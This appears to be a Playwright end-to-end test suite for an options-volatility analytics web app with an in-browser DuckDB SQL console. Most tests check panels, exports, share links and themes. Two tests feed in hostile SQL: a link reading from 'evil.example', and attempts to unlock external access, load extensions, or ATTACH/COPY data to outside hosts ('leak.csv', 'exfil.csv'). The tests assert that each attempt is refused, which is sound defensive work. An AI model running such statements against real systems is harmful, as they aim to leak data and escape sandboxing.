// The analytics pages in real Chromium over the real nginx: every panel draws, links round-trip,
// bad links and bad SQL explain themselves, cancel stops a query, exports are real files.
import { readFileSync } from 'node:fs';
import type { Locator, Page } from '@playwright/test';
import { currentOffset, readAccessLog } from './harness/access-log.ts';
import { expect, screenshot, test } from './harness/fixtures.ts';
import { DEFAULT_SYMBOL_COUNT as DEMO_SYMBOLS } from '../../src/node/generate/universe.ts';

const done = (l: Locator) => expect(l).toHaveAttribute('data-state', 'done', { timeout: 45_000 });
const drawn = (page: Page, id: string) =>
  expect(page.getByTestId(id)).toHaveAttribute('data-points', /^[1-9]\d*$/, { timeout: 45_000 });

test('symbol page: every panel answers and draws', async ({ page }) => {
  await page.goto('/?symbol=QQQ');
  for (const id of ['iv-history', 'expected-move', 'iv-rank', 'chain', 'term', 'skew', 'surface', 'volume-oi']) {
    await done(page.getByTestId(id));
  }
  for (const id of ['iv-chart', 'put-call-chart', 'iv-rank-chart', 'term-chart', 'skew-chart', 'surface-chart', 'volume-oi-chart']) {
    await drawn(page, id);
  }
  await expect(page.getByTestId('chain-table').locator('tbody tr')).toHaveCount(16);
  await expect(page.getByTestId('expected-move-bars')).toContainText('1M');
  // Each chart keeps a data-table fallback.
  await page.getByTestId('term').locator('summary').click();
  await expect(page.getByTestId('term-table')).toBeVisible();
  await screenshot(page, 'symbol-page');
});

test('forecasts page: forecast vs realised with bands, accuracy and calibration', async ({ page }) => {
  await page.goto('/?page=forecasts&symbol=SPY&horizon=5d');
  await done(page.getByTestId('forecast'));
  await drawn(page, 'forecast-chart');
  await done(page.getByTestId('accuracy'));
  const rows = Number(await page.getByTestId('accuracy-table').getAttribute('data-rows'));
  expect(rows).toBeGreaterThan(8);
  await drawn(page, 'calibration-chart');
  await page.getByTestId('model-select').selectOption('gbm-v1');
  await expect(page).toHaveURL(/model=gbm-v1/);
  await done(page.getByTestId('forecast'));
  await expect(page.getByTestId('forecast')).toContainText('gbm-v1');
  await screenshot(page, 'forecasts-page');
});

test('screener: every symbol, sortable, click-through to the symbol page', async ({ page }) => {
  await page.goto('/?page=screener');
  await done(page.getByTestId('screener'));
  const table = page.getByTestId('screener-table');
  await expect(table.locator('tbody tr')).toHaveCount(DEMO_SYMBOLS);
  await table.getByRole('button', { name: 'IV rank' }).click(); // descending first: the top of the range

  const top = (await table.locator('tbody tr').first().locator('td').first().textContent())!.trim();
  await screenshot(page, 'screener-page');
  await table.locator('tbody tr').first().click();
  await expect(page).toHaveURL(new RegExp(`symbol=${top}`));
  await done(page.getByTestId('iv-history'));
  await expect(page.getByTestId('symbol-select')).toHaveValue(top);
});

async function typeSql(page: Page, sql: string): Promise<void> {
  const editor = page.getByTestId('sql-editor');
  await editor.click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(sql);
}

test('console: Ctrl+Enter runs, SQL errors are explained, history and chart follow', async ({ page }) => {
  await page.goto('/?page=console');
  await expect(page.getByTestId('schema-browser')).toContainText('daily_iv_summary', { timeout: 45_000 });
  await typeSql(page, "SELECT date, avg_vol FROM daily_iv_summary WHERE act_symbol = 'SPY' ORDER BY date");
  await page.keyboard.press('Control+Enter');
  await done(page.getByTestId('console-stats'));
  expect(Number(await page.getByTestId('sql-result').getAttribute('data-rows'))).toBeGreaterThan(300);
  await drawn(page, 'sql-chart');
  await expect(page.getByTestId('sql-history')).toContainText('daily_iv_summary');

  await typeSql(page, 'SELEC date FROM options');
  await page.keyboard.press('Control+Enter');
  const error = page.getByTestId('sql-error');
  await expect(error).toContainText('could not be parsed');
  await expect(error).not.toContainText(/\s+at\s+\S+:\d+/);
  await screenshot(page, 'console-sql-error');
});

test('console: a 100k-row result stays usable and exports as real CSV and Parquet', async ({ page }) => {
  await page.goto('/?page=console');
  await typeSql(page, 'SELECT date, act_symbol, strike, vol FROM options WHERE year = 2025 AND month = 8 LIMIT 100000');
  await page.getByTestId('run-sql').click();
  await done(page.getByTestId('console-stats'));
  const table = page.getByTestId('sql-result');
  await expect(table).toHaveAttribute('data-rows', '100000');
  // The chart draws a thinned copy: 100k SVG points held the main thread for tens of seconds.
  await expect(page.getByTestId('chart-thinned')).toContainText('of 100,000 rows');
  await expect(page.getByTestId('sql-chart')).toHaveAttribute('data-state', 'drawn');
  expect(Number(await page.getByTestId('sql-chart').getAttribute('data-points'))).toBeLessThanOrEqual(4000);
  // Virtualised: the DOM holds a window of rows, not 100k.
  expect(await table.locator('tbody tr').count()).toBeLessThan(100);
  await table.locator('..').evaluate((el) => (el.scrollTop = 50_000 * 28));
  await expect(table.locator('tbody tr').nth(3)).toBeVisible();

  const csv = page.waitForEvent('download');
  await page.getByTestId('export-csv').click();
  const csvText = readFileSync((await (await csv).path())!, 'utf8');
  expect(csvText.split('\n')[0]).toBe('date,act_symbol,strike,vol');
  expect(csvText.trim().split('\n')).toHaveLength(100_001);

  const pq = page.waitForEvent('download');
  await page.getByTestId('export-parquet').click();
  const bytes = readFileSync((await (await pq).path())!);
  expect(bytes.subarray(0, 4).toString()).toBe('PAR1');
  expect(bytes.subarray(-4).toString()).toBe('PAR1');
  await screenshot(page, 'console-100k');
});

test('console: cancel stops a running query and the engine stays usable', async ({ page }) => {
  await page.goto('/?page=console');
  await typeSql(page, 'SELECT sum(hash(range)) FROM range(20000000000)');
  await page.getByTestId('run-sql').click();
  await expect(page.getByTestId('console-stats')).toHaveAttribute('data-state', 'running');
  await page.getByTestId('cancel-sql').click();
  await expect(page.getByTestId('console-stats')).toHaveAttribute('data-state', 'idle', { timeout: 10_000 });
  await expect(page.getByTestId('sql-error')).toHaveCount(0);
  await typeSql(page, 'SELECT 42 AS answer');
  await page.keyboard.press('Control+Enter');
  await done(page.getByTestId('console-stats'));
  await expect(page.getByTestId('sql-result')).toContainText('42');
});

test('share links round-trip every choice, long SQL compressed', async ({ page, context }) => {
  await page.goto('/?symbol=MSFT');
  await done(page.getByTestId('chain'));
  // Three trading days before the newest, stepped like a user would.
  for (let i = 0; i < 3; i++) await page.getByTestId('snapshot-prev').click();
  const snapshot = await page.getByTestId('snapshot-date').inputValue();
  await expect(page).toHaveURL(new RegExp(`date=${snapshot}`));
  await done(page.getByTestId('expirations'));
  const expiries = await page.getByTestId('expiry-select').locator('option').evaluateAll((o) => o.map((x) => (x as HTMLOptionElement).value));
  await page.getByTestId('expiry-select').selectOption(expiries[2]!);
  await expect(page).toHaveURL(new RegExp(`expiry=${expiries[2]}`));
  await done(page.getByTestId('chain'));
  const link = page.url();
  expect(link).toContain(`date=${snapshot}`);

  const other = await context.newPage();
  await other.goto(link);
  await done(other.getByTestId('chain'));
  await expect(other.getByTestId('symbol-select')).toHaveValue('MSFT');
  await expect(other.getByTestId('snapshot-date')).toHaveValue(snapshot);
  await expect(other.getByTestId('expiry-select')).toHaveValue(expiries[2]!);
  await expect(other.getByTestId('chain')).toContainText(expiries[2]!);

  const longSql = `SELECT act_symbol, count(*) AS n FROM options WHERE act_symbol IN (${['SPY', 'QQQ', 'IWM', 'AAPL', 'MSFT', 'NVDA', 'TSLA', 'AMZN'].map((s) => `'${s}'`).join(', ')}) AND year = 2025 AND month = 8 /* ${'a long comment to push this query past the compression threshold '.repeat(4)} */ GROUP BY act_symbol ORDER BY act_symbol`;
  await other.goto('/?page=console');
  await typeSql(other, longSql);
  await expect(other).toHaveURL(/sqlz=/);
  const consoleLink = other.url();
  expect(consoleLink).not.toContain('sql=');
  const third = await context.newPage();
  await third.goto(consoleLink);
  await done(third.getByTestId('console-stats'));
  await expect(third.getByTestId('sql-result')).toHaveAttribute('data-rows', '8');
  await expect(third.getByTestId('sql-editor')).toContainText('compression threshold');
  await screenshot(third, 'shared-console-link');
});

test('a malformed link explains itself and falls back to defaults', async ({ page }) => {
  await page.goto('/?page=nowhere&symbol=bad!&expiry=2025-02-30&sqlz=%%%');
  await expect(page.getByTestId('url-notice')).toHaveCount(4);
  await done(page.getByTestId('iv-history'));
  await drawn(page, 'iv-chart');
  await screenshot(page, 'malformed-link');
});

test('a link never auto-runs SQL against another origin', async ({ page }) => {
  await page.goto(`/?page=console&sql=${encodeURIComponent("SELECT * FROM read_parquet('https://evil.example/x.parquet')")}`);
  // The engine and the console's code load first (seconds on a loaded machine); a link that did
  // auto-run would have run by the time the schema is listed.
  await expect(page.getByTestId('schema-browser')).toContainText('options', { timeout: 45_000 });
  await expect(page.getByTestId('sql-blocked')).toContainText('https://evil.example');
  await expect(page.getByTestId('console-stats')).toHaveAttribute('data-state', 'idle');
  await expect(page.getByTestId('sql-result')).toHaveCount(0);
  // Pressing Run anyway: the worker itself refuses the origin, whatever the page's CSP.
  await page.getByTestId('run-sql').click();
  await expect(page.getByTestId('sql-error')).toContainText('another site');
  await screenshot(page, 'foreign-origin-refused');
});

test("console SQL cannot undo the engine's fences, and the engine stays usable", async ({ page, baseURL }) => {
  await page.goto('/?page=console');
  await expect(page.getByTestId('schema-browser')).toContainText('options', { timeout: 45_000 });
  const app = new URL(baseURL!).origin;
  const attempts: [string, RegExp][] = [
    ['SET enable_external_access = true', /fixed for safety/],
    ['RESET lock_configuration', /fixed for safety/],
    ["PRAGMA allowed_directories = ['/']", /fixed for safety/],
    ["SET custom_extension_repository = 'http://127.0.0.1:9'", /fixed for safety/],
    ['LOAD httpfs', /fixed for safety/],
    // INSTALL is a no-op in DuckDB-WASM (nothing is fetched); LOAD is the step that would run code.
    ["LOAD json", /fixed for safety/],
    ["ATTACH 'http://127.0.0.1:9/x.duckdb' AS x", /another site/],
    ["COPY (SELECT 1) TO 'http://127.0.0.1:9/leak.csv'", /another site/],
    ["SELECT * FROM read_csv_auto('http://127.0.0.1:9/exfil.csv')", /another site/],
  ];
  const before = currentOffset();
  for (const [sql, refusal] of attempts) {
    await typeSql(page, sql);
    await page.getByTestId('run-sql').click();
    await expect(page.getByTestId('sql-error'), sql).toContainText(refusal, { timeout: 15_000 });
  }
  // A write to the app's own origin: whatever DuckDB says, nothing but reads reach the server.
  await typeSql(page, `COPY (SELECT 1) TO '${app}/data/leak.csv'`);
  await page.getByTestId('run-sql').click();
  await expect(page.getByTestId('console-stats')).not.toHaveAttribute('data-state', 'running', { timeout: 15_000 });
  await typeSql(page, `SELECT current_setting('enable_external_access') AS ext, current_setting('lock_configuration') AS locked,
    (SELECT count(*) FROM duckdb_extensions() WHERE loaded) AS loaded, (SELECT count(*) FROM options WHERE year = 2025 AND month = 8) > 0 AS reads`);
  await page.getByTestId('run-sql').click();
  await done(page.getByTestId('console-stats'));
  const row = page.getByTestId('sql-result').locator('tbody tr').first();
  await expect(row).toContainText(/false\s*true\s*2\s*true/);
  const methods = new Set(readAccessLog(before).map((e) => e.method));
  expect([...methods].filter((m) => !['GET', 'HEAD', 'OPTIONS'].includes(m))).toEqual([]);
  await screenshot(page, 'console-fences');
});

test('embed mode renders one chart alone', async ({ page }) => {
  await page.goto('/?embed=1&chart=term&symbol=AAPL');
  await done(page.getByTestId('term'));
  await drawn(page, 'term-chart');
  await expect(page.getByRole('navigation')).toHaveCount(0);
  await expect(page.getByTestId('iv-history')).toHaveCount(0);
  await expect(page.getByTestId('chain')).toHaveCount(0);
  await screenshot(page, 'embed-term');
});

test('dark mode: the theme toggle switches and is remembered', async ({ page }) => {
  await page.emulateMedia({ colorScheme: 'light' });
  await page.goto('/?symbol=SPY');
  await done(page.getByTestId('iv-history'));
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'light');
  const toggle = page.getByTestId('theme-toggle');
  await toggle.click(); // auto -> light
  await toggle.click(); // light -> dark
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  const bg = await page.evaluate(() => getComputedStyle(document.body.parentElement!).backgroundColor);
  expect(bg).toBe('rgb(15, 18, 23)');
  await page.reload();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  await done(page.getByTestId('iv-history'));
  await drawn(page, 'iv-chart');
  await screenshot(page, 'dark-mode');
});

test('links hold only explicit choices: defaults stay out and follow the data', async ({ page }) => {
  await page.goto('/');
  await done(page.getByTestId('iv-history'));
  await done(page.getByTestId('chain'));
  expect(new URL(page.url()).search).toBe('');
  const select = page.getByTestId('symbol-select');
  const symbols = await select.locator('option').allTextContents();
  await select.selectOption(symbols[0]!); // the default, but now chosen
  await select.selectOption(symbols[1]!);
  await expect(page).toHaveURL(new RegExp(`\\?symbol=${symbols[1]}$`));
  await page.getByTestId('nav-screener').click();
  await expect(page).toHaveURL(/\?page=screener$/);
});
